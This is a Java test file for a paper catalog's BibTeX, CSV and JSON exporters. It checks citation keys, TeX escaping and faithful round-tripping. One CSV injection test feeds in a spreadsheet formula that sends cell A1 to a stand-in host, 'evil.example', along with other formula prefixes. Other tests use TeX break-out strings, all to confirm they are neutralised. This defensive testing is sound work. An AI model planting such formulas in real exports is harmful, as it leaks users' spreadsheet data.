package dev.paperlist.export;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.paperlist.catalog.CatalogLoader;
import dev.paperlist.model.Catalog;
import dev.paperlist.model.Paper;
import dev.paperlist.model.PartialDate;
import dev.paperlist.model.Section;
import dev.paperlist.model.Settings;
import dev.paperlist.model.SourcePosition;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.constraints.StringLength;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** Citation keys, BibTeX entry types and escaping, and CSV and JSON that other tools read back exactly. */
class ExportersTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @Test
    void keysFollowScholarsShapeAndAnIdWins() {
        Paper seine = Paper.builder("SEINE", "SEINE: Short-to-Long Video Diffusion Model").authors(List.of("Xinyuan Chen",
                "Yaohui Wang")).submitted(date("2023-10-31")).build();
        Paper onLens = Paper.builder("LENS", "Towards Language Models That Can See").authors(List.of("William Berrios"))
                .venue("arXiv 2023").build();
        Paper anygpt = Paper.builder("AnyGPT", "AnyGPT: Unified Multimodal LLM").authors(List.of("复旦大学"))
                .submitted(date("2024-02")).build();
        Paper pinned = Paper.builder("CLIP", "Learning Transferable Visual Models").id("radford2021clip").build();
        Paper accents = Paper.builder("X", "Ünïcödé names").authors(List.of("Jörg Müller-Straße")).build();
        Map<Paper, String> keys = BibtexKeys.of(List.of(seine, onLens, anygpt, pinned, accents));
        assertThat(keys.get(seine)).isEqualTo("chen2023seine");
        assertThat(keys.get(onLens)).isEqualTo("berrios2023language");
        assertThat(keys.get(anygpt)).isEqualTo("anygpt2024");
        assertThat(keys.get(pinned)).isEqualTo("radford2021clip");
        assertThat(keys.get(accents)).isEqualTo("mullerstrasseunicode");
    }

    @Test
    void collidingKeysGetLettersAndEarlierKeysNeverChange() {
        Paper a = Paper.builder("A", "Vision transformers").authors(List.of("Li Wei")).submitted(date("2021")).build();
        Paper b = Paper.builder("B", "Vision tokenizers").authors(List.of("Li Wei")).submitted(date("2021")).build();
        Paper c = Paper.builder("C", "Vision again").authors(List.of("Li Wei")).submitted(date("2021")).build();
        Paper byId = Paper.builder("D", "Other").id("wei2021vision").build();
        assertThat(keysOf(List.of(a, b, c))).containsExactly("wei2021vision", "wei2021visionb", "wei2021visionc");
        assertThat(keysOf(List.of(a, b))).containsExactly("wei2021vision", "wei2021visionb");
        assertThat(keysOf(List.of(a, b, c, byId))).containsExactly("wei2021visionb", "wei2021visionc",
                "wei2021visiond", "wei2021vision");
    }

    @Property(tries = 200)
    void keysAreUniqueAndSafe(@ForAll @StringLength(max = 30) List<String> titles) {
        List<Paper> papers = new ArrayList<>();
        for (String t : titles) {
            papers.add(Paper.builder("n", t.isBlank() ? "t" : t).authors(List.of("A B")).build());
        }
        List<String> keys = keysOf(papers);
        assertThat(new HashSet<>(keys.stream().map(String::toLowerCase).toList())).hasSameSizeAs(keys);
        assertThat(keys).allMatch(k -> k.matches("[a-z0-9]+"));
    }

    @Test
    void acceptedPapersAreInproceedingsAndArxivOnesMiscWithEprint() {
        String bib = BibtexExporter.export(catalog(
                Paper.builder("K", "Kosmos-G").url("https://arxiv.org/abs/2310.02992").venue("ICLR 2024")
                        .submitted(date("2023-10-04")).authors(List.of("Xichen Pan", "微软研究院")).build(),
                Paper.builder("A", "AnyGPT").arxiv(dev.paperlist.model.ArxivId.parse("2402.12226").orElseThrow())
                        .submitted(date("2024-02-19")).build(),
                Paper.builder("W", "A web page").url("https://example.org/x").build()));
        assertThat(bib).isEqualTo("""
                @inproceedings{pan2023kosmosg,
                  title = {{Kosmos-G}},
                  author = {Xichen Pan and {微软研究院}},
                  booktitle = {ICLR 2024},
                  year = {2024},
                  eprint = {2310.02992},
                  archivePrefix = {arXiv},
                  url = {https://arxiv.org/abs/2310.02992},
                }

                @misc{anygpt2024,
                  title = {{AnyGPT}},
                  year = {2024},
                  month = feb,
                  eprint = {2402.12226},
                  archivePrefix = {arXiv},
                }

                @misc{web,
                  title = {{A web page}},
                  url = {https://example.org/x},
                }
                """);
    }

    @Test
    void texSpecialCharactersAreEscapedAndBracesStayBalanced() {
        String hostile = "50% of {x}_1 & #2 costs $3 ~ ^ \\end{document} }{";
        String escaped = BibtexExporter.escape(hostile);
        assertThat(escaped).isEqualTo("50\\% of \\textbraceleft{}x\\textbraceright{}\\_1 \\& \\#2 costs \\$3"
                + " \\textasciitilde{} \\textasciicircum{} \\textbackslash{}end\\textbraceleft{}document"
                + "\\textbraceright{} \\textbraceright{}\\textbraceleft{}");
        String bib = BibtexExporter.export(catalog(Paper.builder("h", hostile).authors(List.of(hostile))
                .url("https://example.org/{a} b\\c").build()));
        int depth = 0;
        for (int i = 0; i < bib.length(); i++) {
            char c = bib.charAt(i);
            // BibTeX counts every brace, a backslash before it or not.
            if (c == '{') {
                depth++;
            } else if (c == '}') {
                depth--;
                assertThat(depth).as("closing brace at %d of:\n%s", i, bib).isNotNegative();
            }
        }
        assertThat(depth).isZero();
        assertThat(bib).contains("url = {https://example.org/%7Ba%7D%20b%5Cc},");
    }

    @Test
    void csvIsRfc4180AndReadsBackFieldForField() throws Exception {
        Paper tricky = Paper.builder("Q", "Quotes \"and\", commas").authors(List.of("A, B", "C \"D\""))
                .summary("line one\nline two\r\nthree").topics(List.of("x;y")).build();
        String csv = CsvExporter.export(catalog(tricky));
        assertThat(csv).endsWith("\r\n").doesNotContain("\r\n\r\n");
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                .parse(new StringReader(csv)).getRecords();
        assertThat(rows).hasSize(1);
        CSVRecord row = rows.get(0);
        assertThat(row.get("title")).isEqualTo("Quotes \"and\", commas");
        assertThat(row.get("authors")).isEqualTo("A, B; C \"D\"");
        assertThat(row.get("summary")).isEqualTo("line one\nline two\r\nthree");
        assertThat(row.get("sections")).isEqualTo("S / T");
        assertThat(row.toMap().keySet()).containsExactlyInAnyOrderElementsOf(CsvExporter.COLUMNS);
        assertThat(CsvExporter.field("plain")).isEqualTo("plain");
        assertThat(CsvExporter.field("a\"b")).isEqualTo("\"a\"\"b\"");
    }

    /** OWASP's CSV injection rule: a cell a spreadsheet would run as a formula starts with a quote instead. */
    @Test
    void csvCellsThatWouldStartAFormulaArePrefixedWithAQuote() throws Exception {
        Paper formula = Paper.builder("=cmd", "=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")")
                .authors(List.of("+1 Caller", "-2 Minus")).summary("@SUM(A1:A9)").comment("\tTabbed").image("\rCR")
                .build();
        String csv = CsvExporter.export(catalog(formula));
        CSVRecord row = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                .parse(new StringReader(csv)).getRecords().get(0);
        assertThat(row.get("name")).isEqualTo("'=cmd");
        assertThat(row.get("title")).isEqualTo("'=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")");
        assertThat(row.get("authors")).isEqualTo("'+1 Caller; -2 Minus");
        assertThat(row.get("summary")).isEqualTo("'@SUM(A1:A9)");
        assertThat(row.get("comment")).isEqualTo("'\tTabbed");
        assertThat(row.get("image")).isEqualTo("'\rCR");
        for (String cell : row.values()) {
            assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@")
                    .doesNotStartWith("\t").doesNotStartWith("\r");
        }
        assertThat(CsvExporter.field("a=b")).isEqualTo("a=b");
        assertThat(CsvExporter.field("")).isEmpty();
    }

    /**
     * Titles, authors and venues made to break out of their entry (a lone brace, a backslash, {@code %},
     * {@code #}, {@code @}, a quote) read back with a BibTeX parser as exactly the entries written, each field
     * with the value written; and by BibTeX's own rule (every brace counts) no field ends early.
     */
    @Property(tries = 200)
    void bibtexReadsBackEntryForEntryWhateverTheTitle(@ForAll("hostileTexts") List<String> texts) throws Exception {
        List<Paper> papers = new ArrayList<>();
        for (int i = 0; i < texts.size(); i++) {
            String t = texts.get(i).isBlank() ? "t" : texts.get(i);
            papers.add(Paper.builder("n" + i, t).authors(List.of(t, "Ann Lee")).venue(t + " 2024").build());
        }
        String bib = BibtexExporter.export(catalog(papers.toArray(Paper[]::new)));
        org.jbibtex.BibTeXDatabase database = new org.jbibtex.BibTeXParser().parse(new StringReader(bib));
        Map<Paper, String> keys = BibtexKeys.of(papers);
        assertThat(database.getEntries()).as(bib).hasSize(papers.size());
        for (Paper p : papers) {
            org.jbibtex.BibTeXEntry entry = database.resolveEntry(new org.jbibtex.Key(keys.get(p)));
            assertThat(entry).as("entry %s in:%n%s", keys.get(p), bib).isNotNull();
            assertThat(entry.getType().getValue()).isEqualTo("inproceedings");
            assertThat(entry.getField(org.jbibtex.BibTeXEntry.KEY_TITLE).toUserString())
                    .isEqualTo("{" + BibtexExporter.escape(p.title()) + "}");
            assertThat(entry.getField(org.jbibtex.BibTeXEntry.KEY_BOOKTITLE).toUserString())
                    .isEqualTo(BibtexExporter.escape(p.venue()));
            assertThat(entry.getFields()).hasSize(4);
        }
        int depth = 0;
        for (String line : bib.split("\n")) {
            for (char c : line.toCharArray()) {
                depth += c == '{' ? 1 : c == '}' ? -1 : 0;
                assertThat(depth).as("depth in line '%s'", line).isNotNegative();
            }
            boolean entryLine = line.startsWith("@") || line.equals("}") || line.isEmpty();
            assertThat(depth).as("a field line that does not close what it opens: '%s'", line).isEqualTo(entryLine
                    ? (line.startsWith("@") ? 1 : 0) : 1);
        }
    }

    @Provide
    Arbitrary<List<String>> hostileTexts() {
        return Arbitraries.strings().withChars("{}\\%#@\"=,$&_~^ aZ").ofMinLength(1).ofMaxLength(12).list().ofMinSize(1)
                .ofMaxSize(4);
    }

    @Test
    void jsonReadsBackWithEveryFieldAndWhereThePaperIsListed() throws Exception {
        Catalog catalog = CatalogLoader.parse("""
                sections:
                  - title: A
                    papers:
                      - {name: P, id: p, title: "T \\"q\\"", topics: [x], added: 2024-03, url: "https://e.org/p"}
                    sections:
                      - title: B
                        papers:
                          - ref: p
                """, "papers.yaml");
        JsonNode json = JSON.readTree(JsonExporter.export(catalog));
        JsonNode p = json.path("papers").get(0);
        assertThat(json.path("papers")).hasSize(1);
        assertThat(p.path("key").asText()).isEqualTo("p");
        assertThat(p.path("title").asText()).isEqualTo("T \"q\"");
        assertThat(p.path("added").asText()).isEqualTo("2024-03");
        assertThat(p.path("venue").isNull()).isTrue();
        assertThat(p.path("sections").toString()).isEqualTo("[[\"A\"],[\"A\",\"B\"]]");
        assertThat(JsonExporter.export(catalog)).doesNotContain("\r").endsWith("}\n").contains("\n  \"papers\": [");
    }

    private static List<String> keysOf(List<Paper> papers) {
        Map<Paper, String> keys = BibtexKeys.of(papers);
        return papers.stream().map(keys::get).toList();
    }

    private static Catalog catalog(Paper... papers) {
        Section inner = new Section("T", List.of(papers), List.of(), SourcePosition.UNKNOWN);
        return new Catalog(Settings.DEFAULT, List.of(new Section("S", List.of(), List.of(inner), SourcePosition.UNKNOWN)));
    }

    private static PartialDate date(String text) {
        return PartialDate.parse(text).orElseThrow();
    }
}
